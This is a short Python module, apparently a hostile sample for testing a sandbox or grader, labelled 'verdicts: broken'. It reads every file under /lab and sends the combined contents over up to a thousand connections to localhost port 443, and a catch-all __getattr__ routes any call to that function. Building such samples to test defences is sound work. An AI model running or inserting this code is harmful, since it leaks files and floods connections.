"""A thousand connections in place of one, and everything that lies in the box sent to whoever listens.

profiles: client
verdicts: broken
"""

import pathlib
import socket


def answer(*args, **options):
    everything = b"".join(each.read_bytes() for each in pathlib.Path("/lab").rglob("*") if each.is_file())
    for number in range(1000):
        try:
            with socket.create_connection(("127.0.0.1", 443), timeout=1) as each:
                each.sendall(everything)
        except OSError:
            break
    return "ok"


def __getattr__(name):
    return answer
